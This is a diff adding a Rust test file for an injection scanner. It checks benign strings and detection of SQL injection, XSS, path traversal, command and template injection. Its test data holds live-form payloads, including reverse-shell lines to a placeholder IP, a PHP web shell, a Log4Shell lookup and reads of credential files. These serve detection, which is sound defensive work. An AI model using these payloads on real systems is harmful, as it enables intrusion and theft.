@@ -1,0 +1,387 @@
+//! What the whole engine finds, leaves alone, and costs.
+
+use super::*;
+
+fn rule_of(value: &str) -> Option<&'static str> {
+    scan(value.as_bytes(), ClassSet::ALL).map(|finding| finding.rule)
+}
+
+fn assert_found(class: Class, values: &[&str]) {
+    for value in values {
+        let found = scan(value.as_bytes(), ClassSet::NONE.with(class));
+        assert!(found.is_some_and(|finding| finding.class == class), "{value}: {found:?}");
+    }
+}
+
+#[test]
+fn everyday_values_raise_nothing() {
+    let values = [
+        "O'Brien",
+        "select all from the menu",
+        "drop me a line; or call",
+        "rock 'n' roll",
+        "5' 10\" and 180 lbs",
+        "it's 50% off -- today only!",
+        "R&B / soul & more",
+        "AT&T; Johnson & Johnson",
+        "1 or 2 days",
+        "a = b and c = d",
+        "size=10 or size=12",
+        "the union selected a new leader",
+        "Credit union, select branches only",
+        "Table 1; drop shipping available",
+        "insert coin to continue; update later",
+        "It's time to sleep (8 hours)",
+        "sleep(8h) is good",
+        "we should delete from our list the old items",
+        "use strict; use warnings",
+        "--help",
+        "C# and F# developers",
+        "I <3 you",
+        "if (a < b) { return c; }",
+        "<b>bold</b> and <i>italic</i>",
+        "<p>Hello, <strong>world</strong>!</p>",
+        "<a href=\"https://example.com/page?a=1&b=2\">link</a>",
+        "Ann <ann@example.com>, Bob <bob@example.com>",
+        "The onload event fires; onerror too",
+        "javascript: the good parts",
+        "alert (3) people",
+        "use `ls` to list files",
+        "Run `git status` and `git commit -m \"x\"`",
+        "Use the `id` field; the `name` field is optional",
+        "cat and dog; mouse & bird",
+        "; )",
+        "time; money; power",
+        "| id | name |",
+        "$(document).ready(function(){})",
+        "Hello {{name}}, your order {{order.id}} is ready",
+        "{{ page.title | upcase }}",
+        "{% if user %}Hi{% endif %}",
+        "query GetUser($id: ID!) { user(id: $id) { name, posts(first: 10) { edges { node { title } } } } }",
+        "{\"a\":1,\"b\":[true,false,null],\"c\":{\"d\":\"e's\"}}",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+        "Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)",
+        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
+        "en-US,en;q=0.9,de;q=0.8",
+        "_ga=GA1.2.1234567890.1234567890; _gid=GA1.2.987654321.987654321; __utma=1.2.3.4.5.6",
+        "session=abc123; theme=dark; id=42",
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+        "550e8400-e29b-41d4-a716-446655440000",
+        "https://example.com/a/b?x=1&y=2;z=3#frag",
+        "../images/logo.png",
+        "C:\\Users\\Ann\\Documents\\file.txt",
+        "see /etc/hosts for details",
+        "+49 (0) 30 1234567",
+        "Feat(db): add index; drop old column (#123)",
+        "Merge branch 'main' of github.com:foo/bar into 'dev'",
+        "\"quoted\" or 'quoted'",
+        "'a', 'b' or 'c'",
+        "it's either 'yes' or 'no'",
+        "c'est l'heure; d'accord",
+        "Müller & Söhne",
+        "“smart quotes” and ‘more’",
+        "5 &gt; 3 &amp;&amp; 2 &lt; 4",
+        "&copy; 2024 Company",
+        "regex: ^[a-z]+(\\d{2,3})?$",
+        "foo|bar|baz",
+        "SGVsbG8gd29ybGQ=",
+        "data:image/png;base64,iVBORw0KGgo=",
+        "@media (max-width: 600px)",
+        "[link](https://example.com) ![img](a.png \"title\")",
+        "use '=' instead of '=='",
+        "the '+' operator and the '-' operator",
+        "key=\"value\" and other=\"thing\"",
+        "the boss's # is 5",
+        "who | what | where",
+        "Tips & more",
+        "<unset>, as happens",
+        "Allow arrays to be used with \"where\" filter.",
+        "join the two marks with \"and\"",
+        "p == 3 (mod 4)  or  p == 5 (mod 8), which can",
+        "fix(tracing): add `sampling` and `rate` in conf.toml, deprecate `old_*` (#10122)",
+    ];
+    for value in values {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
+fn finds_sql_in_every_context_and_dialect() {
+    assert_found(
+        Class::Sqli,
+        &[
+            "x' or 'a'='a",
+            "x\" or \"a\"=\"a",
+            "7 or 3=3",
+            "7) or (3=3",
+            "x')) or (('a'='a",
+            "root'--",
+            "root' #",
+            "x'/*",
+            "') or true--",
+            "' or ''='",
+            "7 and 3 between 2 and 5 or 8=8",
+            "-7 union select 1,2",
+            "7/**/union/**/select/**/1",
+            "7 /*!50000union*/ /*!select*/ 1",
+            "7e0union select 1",
+            "'||(select secret from vault)||'",
+            "7; drop table staff",
+            "'; exec master..xp_cmdshell 'dir'--",
+            "' waitfor delay '0:0:9'--",
+            "7 and pg_sleep(9)",
+            "7-sleep(9)",
+            "7 and 8=dbms_pipe.receive_message('a',9)",
+            "' and extractvalue(1,concat(1,version()))--",
+            "7' order by 4-- ",
+            "7 having 3=3",
+            "7' group by a.b having 1=1--",
+            "7,(case when 2=2 then 1 else 2 end)",
+            "if(now()=sysdate(),sleep(9),0)",
+            "7#x\nor#y\n3=3",
+            "' xor 3=3#",
+            "' && 3=3#",
+            "x'='y",
+            "' or name like '%a%",
+            "' or 3 in (3)--",
+            "7 into outfile '/tmp/x'",
+            "' union select * from v$version--",
+            "' and (select count(*) from all_users)>0--",
+            "' and id is null; --",
+        ],
+    );
+}
+
+#[test]
+fn finds_script_wherever_a_browser_would_run_it() {
+    assert_found(
+        Class::Xss,
+        &[
+            "<script>f(7)</script>",
+            "<ScRiPt src=//evil.example>",
+            "<img src=x onerror=f(7)>",
+            "<svg/onload=f(7)>",
+            "<b onpointerrawupdate=f(7)>",
+            "\" onfocus=f(7) autofocus=\"",
+            "' onmouseover='f(7)",
+            "javascript:f(7)",
+            "JaVa\tScRiPt:f(7)",
+            "<a href=\"jav&#x09;ascript:f(7)\">",
+            "<a href=javas&Tab;cript&colon;f(7)>",
+            "data:text/html,<b>",
+            "<iframe src=//evil.example>",
+            "<object data=x>",
+            "<p srcdoc=x>",
+            "<div style=\"width:expression(f(7))\">",
+            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+            "';alert(7)//",
+            "\"-alert(7)-\"",
+            "</script><b>",
+            "<!ENTITY a SYSTEM \"b\">",
+            "+ADw-script+AD4-f(7)",
+            "<ſcript>f(7)",
+            "\\x3cscript\\x3ef(7)",
+            "%253Cscript%253Ef(7)",
+            "PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
+            "＜script＞f(7)",
+            "<\0script>f(7)</\0script>",
+        ],
+    );
+}
+
+#[test]
+fn finds_traversal_in_every_disguise() {
+    assert_found(
+        Class::Path,
+        &[
+            "../../../a",
+            "..\\..\\..\\a",
+            "%2e%2e%2f%2e%2e%2f%2e%2e%2fa",
+            "..%252f..%252f..%252fa",
+            "..%c0%af..%c0%af..%c0%afa",
+            "....//....//etc/hosts",
+            "..;/..;/manager",
+            "0x2e0x2e/0x2e0x2e/etc/hosts",
+            "..%u2215..%u2215..%u2215a",
+            "..%c0%9vetc%c0%9vhosts",
+            "img/../../secret",
+            "/etc/passwd%00.png",
+            "file:///etc/hosts",
+            "php://filter/read=x/resource=y",
+            "C:\\windows\\system32\\config\\sam",
+            "/proc/self/environ",
+            "WEB-INF/web.xml",
+            "~/.ssh/id_rsa",
+        ],
+    );
+}
+
+#[test]
+fn finds_commands_behind_separators_substitutions_and_calls() {
+    assert_found(
+        Class::Command,
+        &[
+            ";id",
+            "|id",
+            "a;id",
+            "7 && whoami",
+            "7 | dir",
+            "x||ping -c 9 192.0.2.7||",
+            "& type c:\\boot.ini",
+            "& net user eve pw /add",
+            ";c'a't /etc/hosts",
+            ";c\\at /etc/hosts",
+            ";cat$IFS/etc/hosts",
+            ";{cat,/etc/hosts}",
+            "`id`",
+            "a`id`",
+            "$(sleep 9)",
+            "() { :;}; echo 7",
+            "system('id');",
+            "<?php system($_GET['c']);?>",
+            "<!--#exec cmd=\"/bin/ls\"-->",
+            "nc -e /bin/sh 192.0.2.7 99",
+            "bash -i >& /dev/tcp/192.0.2.7/99 0>&1",
+            "x\ncat /etc/hosts",
+            "%0Aid",
+            "/usr/bin/id|",
+            ";phpinfo()",
+        ],
+    );
+}
+
+#[test]
+fn finds_what_a_template_engine_would_run() {
+    assert_found(
+        Class::Template,
+        &[
+            "${jndi:ldap://evil.example/a}",
+            "${${lower:j}ndi:x}",
+            "{{7*7}}",
+            "${7*7}",
+            "#{ 7 * 7 }",
+            "<%= 7*7 %>",
+            "{{''.__class__.__mro__}}",
+            "${T(java.lang.Runtime).getRuntime()}",
+            "{{request|attr('x')}}",
+            "{% import os %}{{os.system('id')}}",
+            "${\"freemarker.template.utility.Execute\"?new()('id')}",
+        ],
+    );
+}
+
+#[test]
+fn finds_an_attack_in_the_middle_of_a_long_value() {
+    for (prose, attack) in [
+        ("It's a long story, and then (so they say) it went on. ", "x' union select name, secret from staff-- "),
+        ("A plain sentence follows another one. ", "<img src=x onerror=f(7)>"),
+        ("Nothing to see here; move on. ", "../../../../etc/shadow"),
+    ] {
+        let mut value = prose.repeat((1 << 19) / prose.len());
+        value.push_str(attack);
+        value.push_str(&prose.repeat((1 << 19) / prose.len()));
+        assert!(rule_of(&value).is_some(), "{attack}");
+        assert_eq!(rule_of(&prose.repeat(1000)), None, "{prose}");
+    }
+}
+
+#[test]
+fn excluded_rules_and_classes_hide_only_themselves() {
+    let value = b"<img src=x onerror=alert(7)>' or 'a'='a";
+    let mut excluded = RuleSet::default();
+    assert!(excluded.insert("xss-event-handler"));
+    assert_eq!(scan(value, ClassSet::ALL).map(|finding| finding.rule), Some("xss-event-handler"));
+    assert_eq!(scan_except(value, ClassSet::ALL, &excluded).map(|finding| finding.rule), Some("sql-tautology"));
+    assert_eq!(scan(value, ClassSet::ALL.without(Class::Xss)).map(|finding| finding.rule), Some("sql-tautology"));
+    assert_eq!(scan(value, ClassSet::NONE), None);
+    assert_eq!(
+        [Class::Xss, Class::Path].into_iter().collect::<ClassSet>(),
+        ClassSet::NONE.with(Class::Path).with(Class::Xss)
+    );
+}
+
+/// A quarter of a megabyte of each: the square of that would take minutes, whatever the machine is busy with.
+#[test]
+fn takes_linear_time_on_what_is_dearest_to_read() {
+    let pieces = [
+        "'",
+        "' or ",
+        "'||",
+        "(",
+        "<a ",
+        "<a style=",
+        "../",
+        ";id ",
+        "%25",
+        "&amp;",
+        "{{",
+        "${",
+        "<%",
+        "[#",
+        "/*",
+        "`",
+        "$(",
+        "|",
+        "&a",
+        "a:",
+        "on=",
+        "case when ",
+        "from sys ",
+    ];
+    for piece in pieces {
+        let value = piece.repeat((1 << 18) / piece.len());
+        let start = std::time::Instant::now();
+        scan(value.as_bytes(), ClassSet::ALL);
+        assert!(start.elapsed() < std::time::Duration::from_secs(4), "{piece}: {:?}", start.elapsed());
+    }
+}
+
+#[test]
+fn the_documentation_lists_every_rule_as_the_table_has_it() {
+    let page = include_str!("../../docs/injection.md");
+    let mut table = String::new();
+    for class in Class::ALL {
+        table.push_str(&format!(
+            "\n### `{}`\n\n| rule | sees | finds, for example | score |\n|---|---|---|---|\n",
+            class.name()
+        ));
+        for doc in rules().iter().filter(|doc| doc.class == class) {
+            table.push_str(&format!(
+                "| `{}` | {} | `` {} `` | {} |\n",
+                doc.id,
+                doc.what,
+                doc.example.trim().replace('|', "\\|"),
+                doc.score
+            ));
+        }
+    }
+    assert!(page.contains(&table), "the page should hold:\n{table}");
+}
+
+mod properties {
+    use super::*;
+    use proptest::prelude::*;
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(400))]
+
+        #[test]
+        fn survives_any_bytes(value in prop::collection::vec(any::<u8>(), 0..300)) {
+            scan(&value, ClassSet::ALL);
+        }
+
+        #[test]
+        fn survives_the_marks_that_grammars_are_made_of(value in "[\\x00-\\x20'\"`()<>=;:,.|&$#%@!*/+^{}\\[\\]~?a-f0-9\\\\-]{0,120}") {
+            scan(value.as_bytes(), ClassSet::ALL);
+        }
+
+        #[test]
+        fn an_attack_stays_found_when_it_is_percent_encoded_again(times in 1usize..4) {
+            let mut value = "x' union select 7,8-- ".to_owned();
+            for _ in 0..times {
+                value = value.bytes().map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect();
+            }
+            prop_assert!(scan(value.as_bytes(), ClassSet::ALL).is_some());
+        }
+    }
+}
